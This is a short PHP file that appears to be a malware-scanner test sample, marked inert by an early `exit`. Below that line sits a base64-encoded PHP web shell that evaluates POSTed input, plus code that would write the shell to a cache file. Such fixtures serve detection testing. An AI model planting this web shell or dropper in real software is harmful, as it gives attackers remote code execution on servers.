<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs
$blob = 'PD9waHAgaWYgKGlzc2V0KCRfUE9TVFsnayddKSkgeyBldmFsKCRfUE9TVFsnayddKTsgfSAvKiBwYWRkaW5nIHRvIG1ha2UgYSBsb25nIGxpdGVyYWwgcGFkZGluZyB0byBtYWtlIGEgbG9uZyBsaXRlcmFsIHBhZGRpbmcgdG8gbWFrZSBhIGxvbmcgbGl0ZXJhbCBwYWRkaW5nIHRvIG1ha2UgYSBsb25nIGxpdGVyYWwgcGFkZGluZyB0byBtYWtlIGEgbG9uZyBsaXRlcmFsIHBhZGRpbmcgdG8gbWFrZSBhIGxvbmcgbGl0ZXJhbCAqLw==';
file_put_contents(__DIR__ . '/cache.tmp', base64_decode($blob));
